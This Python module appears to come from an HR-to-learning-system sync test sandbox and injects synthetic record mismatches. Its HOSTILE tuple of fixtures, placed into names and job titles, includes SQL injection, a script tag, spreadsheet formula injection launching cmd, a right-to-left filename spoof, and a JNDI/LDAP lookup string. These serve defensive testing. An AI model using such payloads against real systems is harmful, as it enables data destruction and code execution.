"""Names, addresses and numbers that differ between a worker and their account; texts that try to do harm."""

from __future__ import annotations

from lms_hris_pipeline.sandbox.company.faults.scene import Injection, Scene, Victim
from lms_hris_pipeline.sandbox.company.framework import mistyped
from lms_hris_pipeline.sandbox.company.names import NICKNAMES, address, folded, pool_of, stripped, transliterated
from lms_hris_pipeline.sandbox.company.organisation import PARTNER_BRANCH
from lms_hris_pipeline.sandbox.company.records import Account

HOSTILE = (
    "Robert'); DROP TABLE workers;--",
    "<script>alert('x')</script>",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C notepad'!A1",
    'O\'Neill "Ace" & Söhne',
    "Bell\u0007 Esc\u001b[31m Tab\tEnd",
    "\u202egnp.exe\u202c-Meyer",
    "{{7*7}} ${jndi:ldap://x.example}",
    "+49 30 12345",
    "a,b;c\nnext line|pipe",
)
"""Texts that must come out of every report as inert text."""


def _shown_elsewhere(victim: Victim) -> bool:
    return "Preferred_First_Name" not in victim.record and "Preferred_Last_Name" not in victim.record


def stale_married_name(scene: Scene) -> bool:
    """HR has the name after a marriage, with a new address; the account has the name before it."""
    victim = scene.take_plain(lambda who: _shown_elsewhere(who) and "Name_History_group" not in who.record)
    if victim is None:
        return False
    record, before = victim.record, dict(victim.record)
    country = record["Country"] if record["Country"] != "JP" else "GB"
    last = scene.rng.choice(pool_of(country).last)[1]
    if last == before["Legal_Last_Name"]:
        last = f"{last}-{last[:3]}"
    mailbox = f"{folded(before['Legal_First_Name'].split(' ')[0])}.{folded(last)}"
    record["Legal_Last_Name"], record["Email_Work"] = last, address(f"{mailbox}.m", scene.serial() + 1)
    if scene.rng.random() < 0.6:
        record["Name_History_group"] = [{"Former_Legal_Last_Name": before["Legal_Last_Name"]}]
        record["Email_History_group"] = [
            *record.get("Email_History_group", ()), {"Former_Email": before["Email_Work"]}
        ]  # fmt: skip
    scene.save(record)
    scene.note_mismatch("stale_married_name", victim, "last_name", last, before["Legal_Last_Name"])
    for field in ("email", "username"):
        scene.note_mismatch("stale_married_name", victim, field, record["Email_Work"], before["Email_Work"])
    return True


def _rename(scene: Scene, kind: str, victim: Victim, **columns: str) -> bool:
    """Set names on the account and write down where they differ from HR's."""
    before = dict(victim.account)
    scene.change_account(victim, **columns)
    for column, field in (("firstname", "first_name"), ("lastname", "last_name")):
        if column in columns and columns[column] != before[column]:
            scene.note_mismatch(kind, victim, field, before[column], columns[column])
    return True


def typo_in_name(scene: Scene) -> bool:
    """A slip in the first or the last name on the account."""
    victim = scene.take_plain()
    if victim is None:
        return False
    column = scene.rng.choice(("firstname", "lastname"))
    return _rename(scene, "typo_in_name", victim, **{column: mistyped(scene.rng, victim.account[column])})


def transliterated_name(scene: Scene) -> bool:
    """The account has the name in plain letters: `Mueller`, `Lecka`."""
    victim = scene.take_plain(lambda who: who.account["lastname"] != stripped(who.account["lastname"]))
    if victim is None:
        return False
    way = transliterated if scene.rng.random() < 0.6 else stripped
    return _rename(scene, "transliterated_name", victim, lastname=way(victim.account["lastname"]))


def nickname(scene: Scene) -> bool:
    """The account has the short form of the first name."""
    victim = scene.take_plain(lambda who: _shown_elsewhere(who) and who.account["firstname"] in NICKNAMES)
    if victim is None:
        return False
    return _rename(scene, "nickname", victim, firstname=NICKNAMES[victim.account["firstname"]])


def swapped_names(scene: Scene) -> bool:
    """First and last name stand in each other's place on the account."""
    victim = scene.take_plain(lambda who: who.account["firstname"] != who.account["lastname"])
    if victim is None:
        return False
    return _rename(
        scene, "swapped_names", victim, firstname=victim.account["lastname"], lastname=victim.account["firstname"]
    )


def stale_email(scene: Scene) -> bool:
    """The account has an address of the time before the domain changed."""
    victim = scene.take_plain()
    if victim is None:
        return False
    now = victim.record["Email_Work"]
    old = now.replace("@lumen.example", "@lumen-old.example")
    if scene.rng.random() < 0.5:
        victim.record.setdefault("Email_History_group", []).append({"Former_Email": old})
        scene.save(victim.record)
    scene.change_account(victim, email=old)
    scene.note_mismatch("stale_email", victim, "email", now, old)
    return True


def _old_username(scene: Scene, victim: Victim) -> str:
    return f"{folded(victim.account['firstname'])[:1]}{folded(victim.account['lastname'])[:8]}{scene.serial():03}"


def stale_username(scene: Scene) -> bool:
    """The account has a user name of the time before the rule."""
    victim = scene.take_plain()
    if victim is None:
        return False
    old = _old_username(scene, victim)
    scene.change_account(victim, username=old)
    scene.note_mismatch("stale_username", victim, "username", victim.record["Email_Work"], old)
    return True


def username_taken(scene: Scene) -> bool:
    """A former partner became an employee: their old partner account still has the user name that is wanted."""
    victim = scene.take_plain()
    if victim is None:
        return False
    scene.change_account(victim, username=_old_username(scene, victim))
    wanted = victim.record["Email_Work"]
    holder = Account(
        scene.new_user_id(), wanted, victim.account["firstname"], victim.account["lastname"], wanted, False, PARTNER_BRANCH,
        None, "2019-04-01 08:00:00", fields={8: "external"},
    )  # fmt: skip
    scene.add_account(holder, "external", None)
    scene.note(
        "username_taken", victim.wid, victim.user_id, "username", wanted, str(holder.user_id), raises="username_taken"
    )
    return True


def number_missing(scene: Scene) -> bool:
    """The account has no employee number."""
    victim = scene.take_plain()
    if victim is None:
        return False
    scene.change_account(victim, field_1=None)
    scene.note_mismatch("number_missing", victim, "employee_number", victim.record["Employee_ID"], None)
    return True


def number_stale(scene: Scene) -> bool:
    """The account has an earlier employee number; HR keeps it in the history, or has forgotten it."""
    victim = scene.take_plain()
    if victim is None:
        return False
    old = f"A{scene.serial():05}0"
    if scene.rng.random() < 0.7:
        victim.record.setdefault("Employee_ID_History_group", []).append({"Former_Employee_ID": old})
        scene.save(victim.record)
    scene.change_account(victim, field_1=old)
    scene.note_mismatch("number_stale", victim, "employee_number", victim.record["Employee_ID"], old)
    return True


def hostile_name(scene: Scene) -> bool:
    """HR has a last name that tries to do harm."""
    victim = scene.take_plain(_shown_elsewhere)
    if victim is None:
        return False
    hostile = HOSTILE[scene.serial() % len(HOSTILE)]
    victim.record["Legal_Last_Name"] = hostile
    scene.save(victim.record)
    scene.note_mismatch("hostile_name", victim, "last_name", hostile, victim.account["lastname"])
    return True


def hostile_title(scene: Scene) -> bool:
    """HR has a business title that tries to do harm; nothing differs."""
    victim = scene.take_plain()
    if victim is None:
        return False
    hostile = HOSTILE[scene.serial() % len(HOSTILE)]
    victim.job["Business_Title"] = hostile
    scene.save(victim.record)
    scene.note("hostile_title", victim.wid, victim.user_id, "business_title", hostile)
    return True


INJECTIONS: dict[str, Injection] = {
    name: globals()[name]
    for name in (
        "stale_married_name", "typo_in_name", "transliterated_name", "nickname", "swapped_names", "stale_email",
        "stale_username", "username_taken", "number_missing", "number_stale", "hostile_name", "hostile_title",
    )
}  # fmt: skip
